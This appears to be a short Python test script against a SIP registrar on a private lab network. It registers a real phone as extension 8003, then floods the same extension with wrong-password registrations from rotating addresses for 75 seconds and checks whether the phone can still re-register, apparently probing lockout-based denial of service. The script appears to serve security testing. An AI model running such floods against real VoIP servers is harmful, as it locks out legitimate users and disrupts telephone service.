import sys,time; sys.path.insert(0,'/tmp/atk')
from auth import *
ph=UA('10.99.0.31')
print('phone registers 8003', register(ph,'8003',PW['8003']))
t0=time.time(); i=0
while time.time()-t0<75:
    a=UA(f'10.99.0.{10+i%50}'); r=register(a,'8003','wrongwrong'); i+=1; a.sock.close(); time.sleep(0.5)
print('attacker sent', i)
for k in range(3):
    print(round(time.time()-t0), 'phone re-registers from its binding addr:', register(ph,'8003',PW['8003'])); time.sleep(10)
